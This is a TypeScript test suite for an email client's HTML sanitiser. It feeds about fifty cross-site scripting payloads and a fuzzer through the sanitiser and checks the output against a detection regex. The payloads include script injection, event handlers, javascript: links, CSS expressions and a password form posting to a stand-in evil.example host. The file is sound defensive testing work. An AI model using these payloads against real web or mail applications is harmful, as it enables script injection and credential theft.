import assert from 'node:assert/strict'
import { globSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import test from 'node:test'
import fc from 'fast-check'
import { sharedData } from '#testing/shared-data.ts'
import { parseLetter } from './parse.ts'
import { sanitiseHtml } from './sanitise.ts'

const clean = (html: string) => sanitiseHtml(html).html

/** What must never come out, in whatever spelling it went in. */
const harmful =
  /<\s*(?:script|style|iframe|object|embed|form|input|button|link|meta|base|svg|math|template|frame|applet|video|audio|source)|<[^<>]*\son\w+\s*=|javascript:|vbscript:|data:text|expression\(|url\(|@import|<!--|srcdoc|<img[^>]*\ssrc=["']?(?!data:image\/(?:png|jpe?g|gif|webp|bmp);base64)/i

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<img/src/onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<div style="background-image:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>',
  '<div style="color:red;behavior:url(x.htc)">x</div>',
  '<table background="https://evil.example/x"><tr><td>x</td></tr></table>',
  '<body onload=alert(1) background="https://evil.example/x">x',
  '<video src=x onloadstart=alert(1)><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<template><script>alert(1)</script></template>',
  '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<p id="x" class="y" onmouseover="alert(1)">x</p>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img srcset="https://evil.example/x 1x">',
  '<img src="file:///etc/passwd">',
  '<isindex action=javascript:alert(1) type=image>',
  '<a href="https://ok.example" onclick="alert(1)" ping="https://evil.example">x</a>',
  '"><script>alert(1)</script>',
  '<xss style="xss:expression(alert(1))">x</xss>',
  '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
  '<b/alt="1"onmouseover=alert(1)>x</b>',
  '\u0000<scr\u0000ipt>alert(1)</script>',
]

for (const attack of attacks) {
  test(`nothing harmful is left of ${attack.slice(0, 70)}`, () => {
    assert.doesNotMatch(clean(attack), harmful)
    assert.doesNotMatch(clean(attack), /position|z-index|ping=|background=/)
  })
}

test('ordinary letters keep their look', () => {
  const html =
    '<p style="color:red;margin:0 0 4px">Hello, <b>world</b></p><table border="1"><tr><td colspan="2" style="padding:2px 4px">1</td></tr></table><ul><li>a</li></ul><blockquote type="cite">q</blockquote>'
  assert.equal(clean(html), html)
})

test('links open beside the desk and leave no trace', () => {
  assert.equal(
    clean('<a href="https://x.example/?a=1&amp;b=2" target="_top" rel="opener">x</a>'),
    '<a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
  )
  assert.match(clean('<a href="mailto:a@b.example">x</a><a href="tel:+7">y</a>'), /mailto:a@b\.example[\s\S]*tel:\+7/)
})

test('pictures of the letter wait by their id, remote ones until they are asked for', () => {
  const { html, blockedImages, cids } = sanitiseHtml(
    '<img src="cid:a%40x" alt="A"><img src="CID:b@x"><img src="cid:b@x"><img src="https://x.example/1.png" width="20"><img src="//x.example/2.png"><img src="http://x.example/3.png">',
  )
  assert.deepEqual([blockedImages, cids], [3, ['a@x', 'b@x']])
  assert.match(html, /<img alt="A" data-cid="a@x" \/>/)
  assert.match(html, /data-src="https:\/\/x\.example\/2\.png"/)
})

test('pictures that nobody could see are gone', () => {
  const pixels =
    '<img src="https://t.example/o" width="1" height="1"><img src="https://t.example/o" style="display:none"><img src="https://t.example/o" width=0 height=0>'
  assert.deepEqual(sanitiseHtml(pixels), { html: '', blockedImages: 0, cids: [] })
})

test('small pictures inside the HTML stay', () => {
  assert.match(clean('<img src="data:image/png;base64,iVBORw0KGgo=">'), /src="data:image\/png;base64,iVBORw0KGgo="/)
})

test('nothing harmful ever comes out, once or twice cleaned', () => {
  const piece = fc.constantFrom(
    '<div>',
    '</div>',
    '<img src="https://x.example/a">',
    '<img src="cid:a">',
    '<a href="https://x.example">',
    '<script>',
    '</script>',
    '<style>',
    '</style>',
    '<b',
    ' onclick=x',
    '>',
    '"',
    "'",
    'text',
    '&lt;script&gt;',
    '<!--',
    '-->',
    '<svg>',
    '<p style="color:red;position:fixed">',
    '<table><tr><td>',
    '\0',
    '<![CDATA[',
    ']]>',
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
      const once = sanitiseHtml(pieces.join(''))
      assert.doesNotMatch(once.html, harmful)
      assert.doesNotMatch(clean(once.html), harmful)
      assert.equal(sanitiseHtml(once.html).blockedImages, once.blockedImages)
    }),
    { numRuns: 1000 },
  )
})

const folder = sharedData('mail')
test('no letter of the collections yields anything harmful', { skip: folder === undefined ? 'no shared data here' : false }, () => {
  for (const name of globSync('**/*.{raw,eml}', { cwd: folder ?? '' })) {
    const { html } = parseLetter(readFileSync(join(folder ?? '', name)))
    if (html !== undefined) assert.doesNotMatch(clean(html), harmful, name)
  }
})
